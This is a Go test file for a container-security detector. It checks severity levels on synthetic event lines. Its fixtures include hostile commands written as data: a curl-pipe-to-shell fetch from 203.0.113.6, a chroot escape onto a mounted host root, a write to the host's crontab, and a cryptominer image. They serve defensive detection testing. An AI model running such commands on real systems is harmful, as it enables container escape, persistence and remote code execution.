package containers_test

import (
	"testing"

	"telltale/detect"
	"telltale/detect/containers"
	"telltale/detect/detecttest"
)

func TestContainers(t *testing.T) {
	const is = "03:00:00 container container.id=89a04170593a665f container.image.name=alpine container.name=web process.command_line="
	const has = "\n- container container.id=89a04170593a change="
	for _, tc := range []struct {
		name, events string
		level        detect.Level
		count        int
	}{
		{"works on the host's tree", is + `"sh -c 'chroot /mnt sh -c id'"` + has + `"mounts / at /mnt"`, detect.High, 1},
		{"fetches and runs, with all rights", is + `"sh -c 'curl http://203.0.113.6/x | sh'"` + has + `privileged`, detect.High, 1},
		{"writes the host's crontab", is + `"sh -c 'echo x >> /host/etc/crontab'"` + has + `"mounts / at /host"`, detect.High, 1},
		{"watches the host", is + `"/bin/node_exporter --path.rootfs=/host"` + has + `"mounts / at /host, read-only; the host's processes; the host's network"`, detect.Low, 1},
		{"updates other containers", is + `/watchtower` + has + `"mounts /var/run/docker.sock at /var/run/docker.sock"`, detect.Low, 1},
		{"a web server", is + `"nginx -g 'daemon off;'"` + "\n- container container.id=89a04170593a", detect.Info, 0},
		{"one of Kubernetes's own", "03:00:00 container container.id=89a04170593a container.name=k8s_kube-proxy_kube-proxy-x_kube-system_1_0 process.command_line=/usr/local/bin/kube-proxy" + has + "privileged", detect.Info, 0},
		{"fetches and runs, without power", is + `"sh -c 'curl http://203.0.113.6/x | sh'"`, detect.Medium, 1},
		{"a miner's image", "03:00:00 container-change service.name=docker container.image.name=evil/xmrig:latest change=\"image pulled\"", detect.High, 1},
		{"an image", "03:00:00 container-change service.name=docker container.image.name=library/minio change=\"image pulled\"", detect.Info, 0},
		{"takes orders from anybody", "03:00:00 server-setting service.name=docker setting.name=api.unprotected setting.value=tcp://0.0.0.0:2375\n03:00:01 server-setting service.name=docker setting.name=api.listen setting.value=[::]:2375", detect.Medium, 1},
		{"takes orders, with certificates", "03:00:00 server-setting service.name=docker setting.name=api.listen setting.value=[::]:2376", detect.Info, 0},
		{"takes orders from the host alone", "03:00:00 server-setting service.name=docker setting.name=api.unprotected setting.value=http://127.0.0.1:2375\n03:00:00 server-setting service.name=docker setting.name=api.listen setting.value=[::1]:2375", detect.Info, 0},
		{"the setting of another", "03:00:00 server-setting service.name=sshd setting.name=PermitRootLogin setting.value=yes", detect.Info, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := detecttest.Run(t, containers.New(), detecttest.Scene(), tc.events)
			if len(got) != tc.count || tc.count > 0 && got[0].Level != tc.level {
				t.Errorf("%+v", got)
			}
		})
	}
}
